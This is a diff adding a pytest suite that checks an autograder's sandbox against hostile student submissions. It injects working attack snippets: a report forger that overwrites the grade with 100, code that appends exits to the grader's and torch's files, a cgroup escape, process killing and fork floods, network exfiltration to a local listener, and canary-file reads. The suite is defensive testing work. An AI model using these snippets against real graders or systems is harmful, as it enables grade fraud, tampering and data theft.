@@ -1,0 +1,364 @@
+"""Hostile submissions: each is the reference solution with one attack injected, graded by the real suite in the
+real sandbox. For every attack: the run completes with a report, the attacked project loses only what the attack
+breaks and the other scores what an honest run gives, nothing of the submission is left running, the kit's files
+are unchanged, nothing reaches a listener on 127.0.0.1, and a canary file outside the submission appears in no
+report or output.
+
+The tasks graded are a cheap selection (``TASKS``: 13 points for the reference) so the whole suite takes about a
+minute; the slow test grades a forging submission in full.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import socket
+import sys
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+from autograder.commands import check
+from autograder.sandbox import cgroups
+from autograder.sandbox.isolation import probe as bwrap_probe
+from course.submission import KIT_ROOT
+
+SOLUTIONS = KIT_ROOT / "solutions"
+ASSIGNMENTS = KIT_ROOT / "assignments"
+TASKS = "p1.shapes,p1.pair_loss,p2.linear.forward"
+HONEST = {"p1.shapes": 4, "p1.pair_loss": 5, "p2.linear.forward": 4}
+
+pytestmark = pytest.mark.skipif(bwrap_probe()[0] is None, reason=f"no sandbox here: {bwrap_probe()[1]}")
+
+
+# ------------------------------------------------------------------------------------------------ the harness
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that counts every connection it receives."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.server.settimeout(0.2)
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        self.running = True
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        deadline = time.monotonic() + 600  # bounded: it stops by itself
+        while self.running and time.monotonic() < deadline:
+            try:
+                conn, _ = self.server.accept()
+            except (socket.timeout, OSError):
+                continue
+            self.connections += 1
+            conn.close()
+
+    def close(self):
+        self.running = False
+        self.thread.join(2)
+        self.server.close()
+
+
+def kit_digest() -> str:
+    """A hash of every file of the installed grader and course packages, and of torch's __init__.py."""
+    import torch
+
+    digest = hashlib.sha256()
+    for root in (KIT_ROOT / "autograder", KIT_ROOT / "course"):
+        for path in sorted(root.rglob("*")):
+            if path.is_file() and "__pycache__" not in path.parts:
+                digest.update(str(path).encode() + path.read_bytes())
+    digest.update(Path(torch.__file__).read_bytes())
+    return digest.hexdigest()
+
+
+def processes_with(marker: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if marker.encode() in (entry / "cmdline").read_bytes():
+                    found.append(int(entry.name))
+            except OSError:
+                pass
+    return found
+
+
+@pytest.fixture
+def arena(tmp_path):
+    """A listener, a canary outside the submission, the kit's digest before; checks all three after."""
+    listener = Listener()
+    canary = tmp_path / "canary.txt"
+    secret = f"CANARY-{uuid.uuid4().hex}"
+    canary.write_text(secret)
+    marker = f"hostile-{uuid.uuid4().hex[:12]}"
+    before = kit_digest()
+    state = {"port": listener.port, "canary": str(canary), "secret": secret, "marker": marker, "outputs": []}
+    yield state
+    listener.close()
+    time.sleep(0.5)
+    assert listener.connections == 0, "the submission reached a listener on 127.0.0.1"
+    assert kit_digest() == before, "the submission changed the kit's files"
+    assert not processes_with(marker), "a process of the submission is still running"
+    for text in state["outputs"]:
+        assert secret not in text, "the canary file's text reached the report or the output"
+
+
+def submission(tmp_path: Path, *, models_top: str = "", method: tuple[str, str, str] | None = None,
+               project2_from: Path = SOLUTIONS) -> Path:
+    """The reference with ``models_top`` run at the import of project1/models.py, and/or ``method``:
+    (file, "class Name(", code) inserted at the start of that class's ``forward``."""
+    root = tmp_path / "submission"
+    for project, source in (("project1", SOLUTIONS), ("project2", project2_from)):
+        (root / project).mkdir(parents=True)
+        for path in (source / project).glob("*.py"):
+            (root / project / path.name).write_text(path.read_text())
+    models = root / "project1" / "models.py"
+    if models_top:
+        models.write_text(models_top + "\n" + models.read_text())
+    if method:
+        file, cls, code = method
+        path = root / file
+        text = path.read_text()
+        start = text.index(cls)
+        body = text.index("### BEGIN SOLUTION", text.index("def forward(self", start))
+        indent = " " * 8  # the text before ``body`` already ends with the first line's indentation
+        path.write_text(text[:body] + f"\n{indent}".join(code.strip().splitlines()) + "\n" + indent + text[body:])
+    return root
+
+
+def grade(arena, root: Path, tmp_path: Path, *options, tasks=TASKS):
+    """Grade ``root`` in the sandbox; return (report, output). The report is written outside the submission."""
+    report_path = tmp_path / "reports" / f"{uuid.uuid4().hex}.json"
+    started = time.monotonic()
+    proc = check.run_suite(root, report_path, task=tasks, visibility="all",
+                           extra=("--sandbox", "require", *options))
+    seconds = time.monotonic() - started
+    assert report_path.is_file(), f"no report; pytest said:\n{proc.stdout[-3000:]}"
+    text = report_path.read_text()
+    arena["outputs"] += [text, proc.stdout]
+    report = json.loads(text)
+    report["_wall"] = seconds
+    report["_path"] = report_path
+    return report, proc.stdout
+
+
+def points(report) -> dict[str, float]:
+    return {t["task"]: t["points"] for t in report["tasks"]}
+
+
+def attack(arena, code: str) -> str:
+    """Attack code with the arena's values filled in."""
+    return (code.replace("PORT", str(arena["port"])).replace("CANARY", arena["canary"])
+            .replace("MARKER", arena["marker"]))
+
+
+# ------------------------------------------------------------------------------------------------ the attacks
+
+
+def test_an_import_that_never_returns_fails_its_project_at_once(arena, tmp_path):
+    honest, _ = grade(arena, submission(tmp_path / "honest"), tmp_path, "--import-limit", "3")
+    report, _ = grade(arena, submission(tmp_path, models_top="while True:\n    pass"), tmp_path,
+                      "--import-limit", "3")
+    got = points(report)
+    assert got["p1.shapes"] == got["p1.pair_loss"] == 0 and got["p2.linear.forward"] == 4
+    assert "did not finish importing within 3 s" in report["import_errors"][0]["message"]
+    # one limit for the whole project, not one per task (plus a margin for a loaded machine)
+    assert report["_wall"] <= honest["_wall"] + 3 + 10, (report["_wall"], honest["_wall"])
+
+
+def test_os_exit_inside_a_probe_costs_only_that_network(arena, tmp_path):
+    root = submission(tmp_path, method=("project1/models.py", "class BaselineNet(", "import os\nos._exit(3)"))
+    report, _ = grade(arena, root, tmp_path)
+    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
+    assert shapes["passed"] == 2 and "exit code 3" in shapes["feedback"], shapes
+    assert points(report)["p1.pair_loss"] == 5 and points(report)["p2.linear.forward"] == 4
+
+
+def test_a_segfault_is_named(arena, tmp_path):
+    root = submission(tmp_path, method=("project1/models.py", "class SiameseNet(", "import ctypes\nctypes.string_at(0)"))
+    report, _ = grade(arena, root, tmp_path)
+    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
+    assert shapes["passed"] == 2 and "segmentation fault" in shapes["feedback"], shapes
+    assert points(report)["p2.linear.forward"] == 4
+
+
+def test_killing_the_parent_and_every_visible_process_harms_nothing(arena, tmp_path):
+    code = attack(arena, """
+import os, signal
+for _entry in os.listdir("/proc"):
+    if _entry.isdigit() and int(_entry) != os.getpid():
+        try:
+            os.kill(int(_entry), signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+except OSError:
+    pass
+""")
+    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
+    assert points(report) == HONEST
+
+
+# a child that first tries to leave its control group (which root could, without the sandbox), then lingers
+ESCAPE = ("import os, time\nfor f in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/unified/cgroup.procs', "
+          "'/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/memory/cgroup.procs'):\n    try:\n"
+          "        open(f, 'w').write(str(os.getpid()))\n    except OSError:\n        pass\n")
+
+
+def test_a_detached_process_does_not_outlive_grading(arena, tmp_path):
+    code = attack(arena, """
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", ESCAPE + "time.sleep(300)", "MARKER"], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+""").replace("ESCAPE", repr(ESCAPE))
+    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
+    assert points(report) == HONEST  # the arena checks that no process with the marker is left
+
+
+FORGE = """
+import json, os, subprocess, sys
+_forged = json.dumps({"score": 100, "max_score": 100, "bonus": 15, "max_bonus": 15, "tasks": []})
+_targets = []
+for _entry in os.listdir("/proc"):
+    try:
+        _args = open(f"/proc/{_entry}/cmdline", "rb").read().split(b"\\0")
+    except OSError:
+        continue
+    if b"--grade-report" in _args:
+        _targets.append(_args[_args.index(b"--grade-report") + 1].decode())
+for _target in _targets:
+    try:
+        open(_target, "w").write(_forged)
+    except OSError:
+        pass
+    _wait = (f"t = time.time()\\nwhile not os.path.exists({_target!r}) and time.time() - t < 120:\\n"
+             f"    time.sleep(0.1)\\ntime.sleep(0.5)\\nopen({_target!r}, 'w').write({_forged!r})")
+    subprocess.Popen([sys.executable, "-c", ESCAPE + _wait, "MARKER"], start_new_session=True)
+print("targets:", _targets)
+"""
+
+
+def test_the_report_cannot_be_forged(arena, tmp_path):
+    root = submission(tmp_path, models_top=attack(arena, FORGE).replace("ESCAPE", repr(ESCAPE)),
+                      project2_from=ASSIGNMENTS)
+    report, _ = grade(arena, root, tmp_path, tasks="p1.shapes,p2")
+    time.sleep(3)  # the forger rewrites the report half a second after it appears
+    again = json.loads(report["_path"].read_text())
+    assert again["score"] == report["score"] == 4, "an honest grade: p1.shapes, and nothing of the skeleton p2"
+
+
+@pytest.mark.slow
+def test_the_forged_report_submission_scores_40_not_100(arena, tmp_path):
+    """The measured case of the issue: project 1 is the reference (plus the forger), project 2 the skeleton."""
+    root = submission(tmp_path, models_top=attack(arena, FORGE).replace("ESCAPE", repr(ESCAPE)),
+                      project2_from=ASSIGNMENTS)
+    report, _ = grade(arena, root, tmp_path, tasks=None)
+    time.sleep(3)
+    assert json.loads(report["_path"].read_text())["score"] == report["score"] == 40
+
+
+REWRITE = """
+import os, pathlib
+import course, torch
+_written = []
+_roots = [pathlib.Path(course.__file__).parent, pathlib.Path(torch.__file__).parent]
+try:
+    import autograder
+    _roots.append(pathlib.Path(autograder.__file__).parent)
+except ImportError:
+    pass
+for _root in _roots:
+    for _path in list(_root.rglob("*.py"))[:200]:
+        try:
+            with open(_path, "a") as _f:
+                _f.write("\\nraise SystemExit(0)\\n")
+            _written.append(str(_path))
+        except OSError:
+            pass
+print("rewrote", len(_written), "files")
+"""
+
+
+def test_the_grader_cannot_be_rewritten_for_the_next_submission(arena, tmp_path):
+    grade(arena, submission(tmp_path / "attacker", models_top=REWRITE), tmp_path)
+    # the next submission is faulty (ReLU's backward has the wrong sign): it must still fail
+    faulty = submission(tmp_path / "faulty")
+    framework = faulty / "project2" / "framework.py"
+    framework.write_text(framework.read_text().replace("        return gradwrtoutput * self.mask\n",
+                                                       "        return -gradwrtoutput * self.mask\n", 1))
+    report, _ = grade(arena, faulty, tmp_path, tasks="p2.activations.backward")
+    task = report["tasks"][0]
+    assert task["points"] < task["max_points"] and "ReLU" in task["feedback"]
+
+
+def test_no_network(arena, tmp_path):
+    code = attack(arena, """
+import socket
+for _host in ("127.0.0.1", "localhost", "10.0.2.2"):
+    try:
+        socket.create_connection((_host, PORT), timeout=1).sendall(b"stolen")
+        print("connected to", _host)
+    except OSError as _exc:
+        print("no network:", _exc)
+""")
+    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
+    assert points(report) == HONEST  # the arena checks the listener got nothing
+
+
+def test_files_outside_the_submission_are_invisible(arena, tmp_path):
+    code = attack(arena, """
+import os
+for _path in ("CANARY", os.path.dirname("CANARY"), os.path.expanduser("~"), "/work", "/root", "/home"):
+    try:
+        print(open(_path).read() if os.path.isfile(_path) else os.listdir(_path))
+    except OSError as _exc:
+        print("cannot read", _path, _exc)
+raise RuntimeError(open("CANARY").read())
+""")
+    report, output = grade(arena, submission(tmp_path, models_top=code), tmp_path)
+    assert report["import_errors"] and "FileNotFoundError" in report["import_errors"][0]["message"]
+    assert points(report)["p2.linear.forward"] == 4  # the arena checks the canary text is nowhere
+
+
+def test_200_mb_of_output_is_cut_and_named(arena, tmp_path):
+    code = 'import sys\nfor _ in range(200):\n    sys.stdout.write("x" * 1_000_000 + "\\n")\nsys.stdout.flush()'
+    report, _ = grade(arena, submission(tmp_path, models_top=code), tmp_path)
+    assert points(report) == HONEST
+    assert any("printed more than 1 MB; the rest was cut" in note for note in report["notes"]), report["notes"]
+    assert report["_path"].stat().st_size < 100_000
+
+
+@pytest.mark.skipif(not cgroups.available() and os.geteuid() == 0,
+                    reason="no cgroup and the grader runs as root: no memory or process cap can be enforced here")
+def test_memory_past_the_cap_is_named(arena, tmp_path):
+    code = "import torch\n_hog = torch.ones(3 * 2**30 // 4)\n_hog += 1"
+    root = submission(tmp_path, method=("project1/models.py", "class BaselineNet(", code))
+    report, _ = grade(arena, root, tmp_path, "--memory", "1G")
+    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
+    assert shapes["passed"] == 2 and "ran out of memory (limit 1 GiB)" in shapes["feedback"], shapes
+    assert points(report)["p2.linear.forward"] == 4
+
+
+@pytest.mark.skipif(not cgroups.available() and os.geteuid() == 0,
+                    reason="no cgroup and the grader runs as root: no memory or process cap can be enforced here")
+def test_hundreds_of_processes_are_refused_and_named(arena, tmp_path):
+    code = attack(arena, """
+import os, subprocess, sys
+_children = []
+for _ in range(300):
+    _children.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "MARKER"]))
+""")
+    root = submission(tmp_path, method=("project1/models.py", "class BaselineNet(", code))
+    report, _ = grade(arena, root, tmp_path)
+    shapes = next(t for t in report["tasks"] if t["task"] == "p1.shapes")
+    assert shapes["passed"] == 2 and "too many processes (limit 64)" in shapes["feedback"], shapes
+    assert points(report)["p2.linear.forward"] == 4
